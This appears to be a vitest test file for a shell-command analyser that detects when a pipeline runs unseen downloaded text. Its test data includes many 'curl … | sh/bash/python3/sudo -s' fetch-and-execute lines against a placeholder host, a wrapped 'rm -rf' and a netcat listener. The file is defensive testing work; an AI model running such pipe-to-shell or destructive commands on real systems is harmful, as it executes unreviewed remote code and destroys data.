import { describe, expect, it } from 'vitest';
import { actsOf } from './acts.ts';

const inShell = (script: string): ReturnType<typeof actsOf> => actsOf({ argv: ['sh', '-c', script] });
const isUnseen = (script: string): boolean => inShell(script).some(({ unseen }) => unseen);

describe('what a command comes to', () => {
  it.each([
    'make -f -',
    'docker exec -i box sh',
    'timeout -k 1 5 env -S "nice -n 5 bash"',
    'doas -u nobody flock lock dash',
    'deno run -',
    'xargs -0 lua',
    'tee log | sudo -s',
    'if true; then python3.12 -; fi',
    '(cd x && sh)',
    '{ read line; sh; }',
    'while read -r line; do echo; bash; done',
    "xargs -I{} sh -c '{}'",
    'nice xargs -i python3 {}',
    'exec -a name /bin/zsh',
  ])('`curl … | %s` runs a text that nobody saw', (program) => {
    expect(isUnseen(`curl -s https://x.example/i | ${program}`)).toBe(true);
  });

  it.each([
    'timeout 5 python3 tools/*.py',
    'nc -l 9000',
    'ssh host',
    'tee a',
    'python3 -m json.tool',
    'awk "{ print }"',
    'xargs -n 1 git add',
    'xargs -I% git add %',
    'docker build -t x .',
    'while read -r line; do echo "$line"; done; python3 <<< "print()"',
    '(wc -l); node',
  ])('`cat … | %s` gives a program that is known what it reads', (program) => {
    expect(isUnseen(`cat *.csv | ${program}`)).toBe(false);
  });

  it('is found behind all that only starts it, with the variables on the way', () => {
    const acts = actsOf({ argv: ['env', '-S', `A=1 B=2 nice -n 5 sh -c 'flock lock rm -rf "src*"'`], env: { C: '3' } });
    expect(acts.map(({ program, args }) => [program, ...args].join(' '))).toEqual([`sh -c flock lock rm -rf "src*"`, 'rm -rf src*']);
    expect(acts[0]?.env).toEqual({ A: '1', B: '2', C: '3' });
  });

  it('is what stands there when nothing is behind it', () => {
    for (const argv of [['xargs'], ['sudo', '-s'], ['env'], ['exec']])
      expect(actsOf({ argv }).map(({ program }) => program)).toEqual(argv.slice(0, 1));
    expect(actsOf({ argv: ['A=1'] }).map(({ program }) => program)).toEqual(['']);
  });
});
